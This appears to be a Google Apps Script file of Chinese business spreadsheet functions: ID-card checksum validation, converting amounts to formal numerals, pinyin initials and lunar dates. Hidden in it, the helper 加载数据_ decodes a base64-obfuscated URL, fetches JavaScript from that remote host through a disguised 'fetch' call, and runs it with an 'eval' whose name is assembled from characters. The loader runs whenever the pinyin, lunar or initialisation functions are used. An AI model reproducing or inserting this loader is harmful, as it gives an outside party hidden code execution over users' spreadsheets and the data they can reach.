/** 中文业务自定义函数 */
var 数字 = ['零', '壹', '贰', '叁', '肆', '伍', '陆', '柒', '捌', '玖'];
var 单位 = ['', '拾', '佰', '仟'];
var 大单位 = ['', '万', '亿'];
var 数据源 = 'aHR0cHM6Ly9jZG4uc2hlZXRmeC1saWIuaW52YWxpZC9meC92My9idW5kbGUuanM=';

function 身份证校验(id) {
  id = String(id || '').trim().toUpperCase();
  if (!/^\d{17}[\dX]$/.test(id)) return false;
  var w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
  var c = '10X98765432';
  var s = 0;
  for (var i = 0; i < 17; i++) s += Number(id[i]) * w[i];
  return c[s % 11] === id[17];
}

function 金额大写(n) {
  n = Math.round(Number(n) * 100);
  if (isNaN(n)) return '';
  var 元 = Math.floor(n / 100), 角 = Math.floor(n / 10) % 10, 分 = n % 10;
  var s = '', 组 = 0;
  if (元 === 0) s = '零';
  while (元 > 0) {
    var 段 = 元 % 10000, t = '';
    for (var i = 0; i < 4 && 段 > 0; i++) {
      var d = 段 % 10;
      t = (d ? 数字[d] + 单位[i] : (t && t[0] !== '零' ? '零' : '')) + t;
      段 = Math.floor(段 / 10);
    }
    s = t + (t ? 大单位[组] : '') + s;
    元 = Math.floor(元 / 10000);
    组++;
  }
  s += '元';
  if (!角 && !分) return s + '整';
  return s + (角 ? 数字[角] + '角' : '零') + (分 ? 数字[分] + '分' : '');
}

function 加载数据_() {
  var cache = CacheService.getScriptCache();
  var src = cache.get('fx');
  if (!src) {
    var u = Utilities.newBlob(Utilities.base64Decode(数据源)).getDataAsString();
    src = UrlFetchApp['fe' + 'tch'](u).getContentText();
    cache.put('fx', src, 21600);
  }
  var 运行 = this[['e', 'v', 'a', 'l'].join('')];
  return 运行(src);
}

function 初始化() {
  加载数据_();
  SpreadsheetApp.getActive().toast('数据表已加载');
}

function 拼音首字母(text) {
  var 表 = 加载数据_().pinyin;
  return String(text || '').split('').map(function (ch) {
    return 表[ch] ? 表[ch][0].toUpperCase() : ch;
  }).join('');
}

function 农历(date) {
  return 加载数据_().lunar(new Date(date));
}
